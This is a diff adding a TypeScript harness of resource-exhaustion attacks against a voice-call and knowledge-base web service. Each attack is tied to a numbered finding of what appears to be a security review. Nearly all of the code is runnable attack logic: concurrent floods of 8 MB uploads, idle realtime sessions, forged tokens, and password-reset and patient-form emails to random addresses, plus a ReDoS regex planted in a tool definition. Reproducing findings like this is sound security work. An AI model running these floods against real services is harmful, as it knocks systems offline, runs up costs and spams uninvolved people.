@@ -1,0 +1,115 @@
+import { randomBytes, randomUUID } from 'node:crypto';
+import { floodOfCalls, floodOfPackets, growingSession, idleConnections, soundAtOnce } from './media-attacks.ts';
+import type { Stranger } from './stranger.ts';
+
+export interface Line {
+  /** Where the pages are; `outside`: by an address that is not this machine's own, null where it has no other. */
+  origin: string;
+  outside: string | null;
+  voiceUrl: string;
+  to: string;
+}
+
+/** What came of an attack that could not be made. */
+export const failed = 'failed';
+
+/** An attack that goes on. */
+export interface Attacking {
+  line: Line;
+  stranger: Stranger;
+  /** It is to go on. */
+  readonly goes: boolean;
+  /** What a try came to: a status, a code, a word. */
+  tell(outcome: string | number): void;
+}
+
+export interface Attack {
+  /** Of the findings that it is of. */
+  finding: string;
+  name: string;
+  /** Until it is to go on no longer. */
+  run(attacking: Attacking): Promise<void>;
+}
+
+/** So many at once, again and again. */
+async function flood(attacking: Attacking, atOnce: number, act: (count: number) => Promise<string | number>) {
+  let count = 0;
+  const one = async () => {
+    while (attacking.goes) attacking.tell(await act(count++));
+  };
+  await Promise.all(Array.from({ length: atOnce }, one));
+}
+
+const slowPattern = {
+  type: 'function',
+  name: 'slow',
+  description: 'Takes years.',
+  webhook_url: 'https://hooks.example/slow',
+  request_type: 'POST',
+  parameters: { type: 'object', properties: { number: { type: 'string', pattern: '^(a+)+$' } } },
+};
+
+/** What one free account and one address can do. Their numbers are those of the review that found them. */
+export const attacks: readonly Attack[] = [
+  { finding: '1', name: 'reports and handshakes of a browser call', run: floodOfPackets },
+  { finding: '3', name: 'minutes of sound at once', run: soundAtOnce },
+  {
+    finding: '5',
+    name: 'uploads without end',
+    async run(attacking) {
+      const { stranger } = attacking;
+      const { _id } = await stranger.read('POST', '/knowledge-bases', { name: randomUUID().slice(0, 8) });
+      const file = Buffer.alloc(8 * 2 ** 20, 'Prices. ');
+      await flood(attacking, 2, (count) =>
+        stranger.ask('POST', `/knowledge-bases/${_id}/files?name=${count}.txt`, file),
+      );
+    },
+  },
+  {
+    finding: '6',
+    name: 'voice tests that nobody talks in',
+    run: (attacking) => flood(attacking, 4, () => attacking.stranger.ask('POST', '/realtime-session')),
+  },
+  { finding: '7', name: 'idle connections', run: idleConnections },
+  {
+    finding: '8',
+    name: 'patterns that would take years',
+    async run(attacking) {
+      const { stranger } = attacking;
+      const number = `${'a'.repeat(35)}!`;
+      await flood(attacking, 4, async (count) => {
+        // Refused after three times, until it is saved anew.
+        if (count % 12 === 0) await stranger.ask('PATCH', '/custom-prompt', { tools: [slowPattern] });
+        const call = { function_name: 'slow', arguments: { number }, call_id: randomUUID() };
+        return stranger.ask('POST', '/function-call', call);
+      });
+    },
+  },
+  {
+    finding: '9',
+    name: 'made-up tokens and unknown addresses',
+    run: (attacking) =>
+      flood(attacking, 16, (count) => {
+        const path = ['/user', '/nothing', '/overview/call-logs', '/'][count % 4] ?? '/';
+        return attacking.stranger.ask('GET', path, undefined, randomBytes(32).toString('base64url'));
+      }),
+  },
+  { finding: '10', name: 'one caller on every line', run: floodOfCalls },
+  {
+    finding: '18',
+    name: 'mails to strangers',
+    run: (attacking) =>
+      flood(attacking, 4, (count) => {
+        const email = `${randomUUID()}@others.example`;
+        const path = count % 2 === 0 ? '/patient-form-links' : '/auth/forgotpassword';
+        return attacking.stranger.ask('POST', path, { email });
+      }),
+  },
+  { finding: '22a', name: 'a session that grows', run: growingSession },
+  {
+    finding: '22i',
+    name: 'previews of voices',
+    run: (attacking) =>
+      flood(attacking, 8, () => attacking.stranger.ask('POST', '/speech-previews', { text: `Hello ${randomUUID()}.` })),
+  },
+];
